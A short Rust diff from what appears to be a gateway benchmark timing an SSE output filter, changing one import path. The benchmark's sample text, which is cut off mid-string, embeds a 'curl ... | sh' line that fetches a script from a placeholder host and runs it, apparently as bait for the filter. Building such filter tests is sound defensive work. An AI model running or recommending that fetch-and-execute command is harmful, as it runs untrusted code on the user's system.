@@ -608,7 +608,7 @@ pub async fn gateway_bench(
 /// gateway's SSE filter with the default rules and with every rule off. Median of `rounds`
 /// passes, per event.
 fn stream_filter_cost(rounds: usize) -> Value {
-    use nebula_controller::ai::filters::{FilterConfig, Filters, SseFilter};
+    use nebula_ai_filters::{FilterConfig, Filters, SseFilter};
     let paragraph =
         "The moon is Earth's only natural satellite, about 384,400 km away. To install \
         the tool run curl -fsSL https://get.example.sh | sh and then mail the log to \
